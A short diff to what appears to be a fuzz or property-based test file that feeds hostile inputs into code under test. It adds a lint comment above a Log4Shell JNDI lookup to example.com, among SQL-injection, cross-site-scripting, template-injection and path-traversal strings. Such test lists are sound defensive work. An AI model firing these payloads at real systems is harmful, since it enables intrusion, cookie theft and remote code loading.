@@ -168,6 +168,7 @@ const nasty = fc.constantFrom(
   "\\'; SELECT pg_sleep(10); --",
   "<script>alert(document.cookie)</script>",
   '"><img src=x onerror=alert(1)>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
   "${jndi:ldap://example.com/a}",
   "{{7*7}}",
   "../../../../etc/passwd",
